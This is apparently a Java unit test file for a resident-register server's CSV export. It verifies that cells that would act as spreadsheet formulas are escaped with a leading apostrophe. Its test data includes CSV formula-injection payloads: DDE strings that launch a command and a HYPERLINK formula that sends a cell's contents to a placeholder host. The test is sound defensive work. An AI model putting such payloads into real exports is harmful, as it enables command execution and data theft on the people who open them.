package jp.daicho.server.lists;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/** No text of the register does anything in a spreadsheet. */
class SpreadsheetTextTests {
  private static final List<String> FORMULAS =
      List.of(
          "=cmd|'/c calc'!A0",
          "=HYPERLINK(\"http://example.invalid/?\"&A1,\"住民票\")",
          "+1+cmd|'/c calc'!A0",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "\t=1+1",
          "\r=1+1",
          "＝1+1",
          "＠SUM(1)");

  @Test
  void aTextThatWouldBeAFormulaBeginsWithAnApostrophe() {
    assertThat(SpreadsheetText.row(FORMULAS)).allSatisfy(cell -> assertThat(cell).startsWith("'"));
  }

  @Test
  void everythingElseStaysAsItIs() {
    List<String> texts =
        List.of(
            "",
            "-",
            "渡邉\uDB40\uDD00　健一",
            "0312345678",
            "-1",
            "+81-3-1234",
            "１－２",
            "－",
            "a=b",
            "O'Neil");
    assertThat(SpreadsheetText.row(texts)).isEqualTo(texts);
  }

  @Test
  void listsGoOutSo() {
    PrintedList list =
        PrintedList.of("drafts", "", List.of(FORMULAS.subList(0, 5), FORMULAS.subList(2, 6)));
    String csv = new String(list.csv(), StandardCharsets.UTF_8);
    assertThat(csv).contains("'=cmd|", "'@SUM(1+1)", "'\t=1+1");
    assertThat(csv.lines()).noneMatch(line -> line.matches("[\uFEFF]?[=+@].*"));
    assertThat(csv).doesNotContain(",=", ",@", ",+", "\"=", "\"@", "\"+");
  }

  /** Whoever writes CSV for people has to do as above; what is read again by programs must not. */
  @Test
  void nobodyElseWritesFilesForSpreadsheets() throws IOException {
    try (Stream<Path> files = Files.walk(Path.of("src", "main", "java"))) {
      List<String> writers =
          files
              .filter(Files::isRegularFile)
              .filter(SpreadsheetTextTests::writesCsv)
              .map(file -> file.getFileName().toString())
              .sorted()
              .toList();
      assertThat(writers)
          .as("IntakeReport hands lines back as they came, to be corrected and read again")
          .containsExactly(
              "CsvFile.java", "IntakeReport.java", "ListParts.java", "PrintedList.java");
    }
  }

  private static boolean writesCsv(Path file) {
    try {
      return Files.readString(file).contains("CsvWriter.builder()");
    } catch (IOException failure) {
      throw new java.io.UncheckedIOException(failure);
    }
  }
}
